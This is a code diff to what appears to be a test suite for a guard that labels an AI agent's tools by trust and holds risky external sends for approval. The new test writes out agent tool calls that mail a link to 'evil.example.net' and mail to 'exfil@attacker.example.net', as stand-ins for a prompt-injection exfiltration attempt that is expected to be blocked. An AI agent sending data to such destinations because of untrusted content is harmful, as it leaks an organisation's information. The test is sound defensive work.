@@ -21,6 +21,9 @@ upstreams:
         fetch_document: { labels: { source: untrusted, data: public, sink: none } }
         # The organisation's own records: trusted, and confidential.
         customer_list: { labels: { source: trusted, data: confidential, sink: none } }
+        # Messages are outside text; the workspace records who sent them, and a message whose
+        # sender the person names is one the person pointed at.
+        read_channel: { labels: { source: untrusted, data: internal, sink: none, trustedFields: [channel], anchorFields: [sender] } }
         # Mail leaves the organisation unless every recipient is on its domains.
         send_email: { risk: medium, labels: { source: trusted, data: internal, sink: external, sinkArgs: [to] } }
 `;
@@ -68,6 +71,16 @@ for (const backend of BACKENDS) {
 
       // The recipient the person named: no flow rule applies (untrusted read, but nothing confidential).
       assert.equal(text(await send(client, 'carol@partner.example')), 'sent to carol@partner.example');
+    });
+
+    it("passes on a link from the message the person pointed at, and holds one from the same channel's other messages", async () => {
+      const { client } = await open('Email carol@partner.example the link Bob posted in #board');
+      await client.callTool({ name: 'desk.read_channel', arguments: { channel: 'board' } });
+      const mail = (body: string) => client.callTool({ name: 'desk.send_email', arguments: { to: 'carol@partner.example', subject: 'Deck', body } });
+      assert.equal(text(await mail('Here it is: https://docs.example.org/board-deck')), 'sent to carol@partner.example');
+      const held = await refusal(mail('Here it is: https://evil.example.net/deck'));
+      assert.equal(held.code, 'APPROVAL_PENDING');
+      assert.equal((await refusal(send(client, 'exfil@attacker.example.net'))).code, 'APPROVAL_PENDING');
     });
 
     it('holds an external send once the task read both outside content and confidential data', async () => {
